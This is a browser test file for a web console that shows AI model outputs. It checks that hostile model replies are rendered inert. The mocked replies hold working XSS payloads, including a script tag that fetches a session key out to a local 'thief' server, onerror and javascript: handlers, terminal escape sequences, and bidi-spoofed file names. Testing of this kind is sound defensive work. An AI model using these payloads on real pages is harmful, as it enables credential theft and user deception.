import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { SandboxCall, SandboxReply } from '../../core/sandbox/upstream.ts';
import { samplePicture } from '../support/samples/sample-picture.ts';
import { consoleOfFile, type ConsoleVisit } from './console-scene.ts';
import { describeChromium } from './describe-chromium.ts';
import { fillForm, sendAndWait } from './fill-form.ts';

let thief: Server;
let stolen = 0;
let visit: ConsoleVisit;
let page: Page;

const NAME = 'a\u2066b\u202Egnp.png';
const VISIBLE_NAME = 'aU+2066bU+202Egnp.png';
const MODELS = ['gpt-4o', 'gpt-5.4', 'gemini-2.5-flash', 'mistral-large-2512'];
const thiefUrl = (): string => `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;

/** The answer of each model, in the order of `MODELS`. */
function attacks(): readonly string[] {
  const url = thiefUrl();
  return [
    `<script>fetch('${url}/' + sessionStorage.getItem('assay-key')); window.owned = 1</script></pre></article><img src="${url}/a.png" onerror="window.owned = 1"><iframe src="${url}"></iframe><style>* { display: none }</style><svg onload="window.owned = 1"><a href="javascript:window.owned = 1">click</a>`,
    `[click me](javascript:window.owned=1) ![](${url}/b.png) <${url}/c> {{constructor.constructor('window.owned=1')()}} \${window.owned=1}`,
    `\u001B[31mred\u001B[0m \u001B]8;;${url}\u0007link\u001B]8;;\u0007 bell\u0007 back\u0008space nul\u0000 c1\u009B2J\r\nnext`,
    `safe\u202E exe.gpj\u202C then \u2066isolated\u2069 and \u{E0041}\u{E0042}tags, but 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} and 👨‍👩‍👧 stay`,
  ];
}

const VERDICT = `{"first_notes":"x","second_notes":"y","reasoning":"<img src=x onerror=window.owned=1> \u202Ebecause","verdict":"first","confidence":0.5}`;

function reply({ user, model }: SandboxCall): SandboxReply {
  if (user.includes('<<<FIRST')) return { content: VERDICT };
  return { content: attacks()[MODELS.findIndex((id) => model.startsWith(id))] ?? 'none' };
}

const scene = consoleOfFile({ sandbox: { reply } });

describeChromium('an output that attacks the page', () => {
  beforeAll(async () => {
    thief = createServer((_request, response) => {
      stolen += 1;
      response.end();
    }).listen(0, '127.0.0.1');
    const account = await scene.gateway.account(10_000);
    visit = await scene.open(account.key);
    ({ page } = visit);
    await fillForm(page, { prompt: 'Attack.', models: MODELS, judges: ['claude-opus-4-7'] });
    await sendAndWait(page);
  });
  afterAll(() => thief.close());

  it('becomes no element but those of Markdown, and no link but to the web', async () => {
    const inside = `[...new Set([...document.querySelectorAll('.output-text *')].map((node) => node.tagName))].toSorted()`;
    expect(await page.evaluate(inside)).toEqual(['A', 'BR', 'DIV', 'P', 'SPAN']);
    expect(
      await page.locator('.results :is(script, style, iframe, img:not([src^="console/mark-"]))').count(),
    ).toBe(0);
    const links = `[...document.querySelectorAll('.output-text a')].map(({ href, rel }) => [href, rel])`;
    const rel = 'noopener noreferrer nofollow';
    expect(await page.evaluate(links)).toEqual([
      [`${thiefUrl()}/b.png`, rel],
      [`${thiefUrl()}/c`, rel],
    ]);
    expect(await page.locator('.hidden-character').count()).toBeGreaterThan(8);
  });

  it('is shown as the text it is, as its source', async () => {
    for (const change of await page.getByRole('button', { name: /^Source of/ }).all()) await change.click();
    const [html, markdown, terminal, bidi] = await page.locator('.output-text').allTextContents();
    expect([html, markdown]).toEqual(attacks().slice(0, 2));
    expect(terminal).toBe(
      `U+001B[31mredU+001B[0m U+001B]8;;${thiefUrl()}U+0007linkU+001B]8;;U+0007 bellU+0007 backU+0008space nulU+0000 c1U+009B2J\r\nnext`,
    );
    expect(bidi).toBe(
      `safeU+202E exe.gpjU+202C then U+2066isolatedU+2069 and U+E0041U+E0042tags, but 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} and 👨‍👩‍👧 stay`,
    );
  });

  it('has made no element of its own there', async () => {
    const inside = `[...new Set([...document.querySelectorAll('.output-text *')].map((node) => node.tagName + '.' + node.className))]`;
    expect(await page.evaluate(inside)).toEqual(['PRE.is-source', 'SPAN.hidden-character']);
    expect(
      await page.locator('.results :is(script, style, iframe, a, img:not([src^="console/mark-"]))').count(),
    ).toBe(0);
  });

  it('reaches the judges’ grounds no better', async () => {
    await page.locator('.verdict').first().click();
    const [grounds] = await page.locator('.reasoning').allTextContents();
    expect(grounds).toBe('<img src=x onerror=window.owned=1> U+202Ebecause');
    expect(await page.locator('.reasoning img').count()).toBe(0);
  });

  it('has run nothing, loaded nothing, asked nobody', async () => {
    expect(await page.evaluate('window.owned')).toBeUndefined();
    expect(visit.faults()).toEqual([]);
    expect(stolen).toBe(0);
  });

  it('would be stopped by the browser even where the page had a hole', async () => {
    const attempts = [
      `document.querySelector('.output').innerHTML = '<b>x</b>'`,
      `setTimeout('window.owned = 1')`,
      `document.head.append(Object.assign(document.createElement('script'), { text: 'window.owned = 1' }))`,
    ];
    const outcomes = await page.evaluate(
      `[${attempts
        .map(
          (attempt) => `(() => { try { ${attempt}; return 'done' } catch (error) { return error.name } })()`,
        )
        .join(',')}]`,
    );
    expect(outcomes).toEqual(['TypeError', 'TypeError', 'TypeError']);
    await page.evaluate(
      `document.body.append(Object.assign(document.createElement('img'), { src: '${thiefUrl()}/hole.png' }))`,
    );
    await page.evaluate(`fetch('${thiefUrl()}/hole').catch(() => {})`);
    expect(await page.evaluate('window.owned')).toBeUndefined();
    expect(stolen).toBe(0);
    // Its faults were provoked.
    await visit.close();
  });
});

describeChromium('the name of a file with invisible characters', () => {
  beforeAll(async () => {
    visit = await scene.open((await scene.gateway.account(100)).key);
  });

  it('is named in the list of attachments and in the curl command', async () => {
    const { page } = visit;
    await fillForm(page, { prompt: 'look', models: ['gpt-4o'] });
    await page
      .locator('#file-input')
      .setInputFiles({ name: NAME, mimeType: 'image/png', buffer: samplePicture(10) });
    expect(await page.locator('#file-list .file-name').textContent()).toBe(VISIBLE_NAME);
    expect(await page.getByRole('button', { name: `Remove ${VISIBLE_NAME}` }).count()).toBe(1);
    await page.locator('#curl').click();
    const command = await page.locator('#curl-text').textContent();
    expect(command).toContain('base64 <');
    expect(command).not.toContain('\u202E');
    expect(command).not.toContain('\u2066');
    await page.getByRole('button', { name: 'Close', exact: true }).click();
  });

  it('is named where the file is refused, or is the report of a run', async () => {
    const { page } = visit;
    await page.locator('#file-input').setInputFiles({
      name: 'a\u202Egnp.exe',
      mimeType: 'application/x-msdownload',
      buffer: Buffer.from('MZ'),
    });
    expect(await page.locator('#files-refused').textContent()).toContain('aU+202Egnp.exe');
    await page.locator('#run-file').setInputFiles({
      name: 'a\u202Elnosj.jsonl',
      mimeType: 'application/jsonl',
      buffer: Buffer.from('{}\n'),
    });
    expect(await page.getByRole('alert').filter({ hasText: 'jsonl' }).textContent()).toContain(
      'aU+202Elnosj',
    );
    expect(await page.locator('#viewer-state').textContent()).toBe('aU+202Elnosj.jsonl');
  });
});
